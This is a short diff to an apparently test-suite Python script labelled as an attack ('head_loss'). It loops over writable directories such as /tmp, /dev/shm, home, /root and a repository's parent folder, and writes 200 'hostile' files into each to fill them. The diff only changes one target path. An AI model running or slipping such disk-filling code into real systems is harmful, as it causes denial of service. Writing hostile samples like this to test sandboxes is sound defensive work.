@@ -1,7 +1,7 @@
 # attacks: head_loss
 # trick: fills every folder that it can write to
 import os
-for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~"), "/work", "/root"):
+for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", os.path.expanduser("~"), "@REPOSITORY@/..", "/root"):
     for number in range(200):
         try:
             with open(f"{folder}/hostile{number}", "wb") as file:
